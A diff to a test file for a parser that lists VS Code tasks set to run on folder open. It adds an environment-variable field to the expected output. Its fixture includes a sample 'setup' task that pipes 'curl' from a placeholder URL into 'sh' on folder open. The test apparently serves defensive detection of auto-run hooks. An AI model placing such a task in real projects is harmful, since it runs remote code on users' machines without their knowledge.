@@ -102,10 +102,10 @@ describe('hook hosts: model', () => {
   });
 
   it('VS Code tasks: only tasks that run on folder open, shell tasks with their args, process tasks without a shell', () => {
-    const text = '{ "version": "2.0.0", "tasks": [ { "label": "build", "type": "shell", "command": "make" }, { "label": "setup", "type": "shell", "command": "curl", "args": ["-fsSL", "https://x.invalid/i.sh", "|", "sh"], "runOptions": { "runOn": "folderOpen" } }, { "label": "watch", "type": "process", "command": "node", "args": ["w.js"], "options": { "cwd": "tools" }, "runOptions": { "runOn": "folderOpen" } } ] }';
-    expect(view(parseAs(vscodeTasks, text, '/r/.vscode/tasks.json')).map((c) => [c.name, c.command, c.args, c.shell, c.cwd])).toEqual([
-      ['"setup" task', 'curl', ['-fsSL', 'https://x.invalid/i.sh', '|', 'sh'], true, undefined],
-      ['"watch" task', 'node', ['w.js'], false, 'tools'],
+    const text = '{ "version": "2.0.0", "tasks": [ { "label": "build", "type": "shell", "command": "make" }, { "label": "setup", "type": "shell", "command": "curl", "args": ["-fsSL", "https://x.invalid/i.sh", "|", "sh"], "runOptions": { "runOn": "folderOpen" } }, { "label": "watch", "type": "process", "command": "node", "args": ["w.js"], "options": { "cwd": "tools", "env": { "PORT": "8080" } }, "runOptions": { "runOn": "folderOpen" } } ] }';
+    expect(view(parseAs(vscodeTasks, text, '/r/.vscode/tasks.json')).map((c) => [c.name, c.command, c.args, c.shell, c.cwd, c.env])).toEqual([
+      ['"setup" task', 'curl', ['-fsSL', 'https://x.invalid/i.sh', '|', 'sh'], true, undefined, []],
+      ['"watch" task', 'node', ['w.js'], false, 'tools', ['PORT=8080']],
     ]);
   });
 
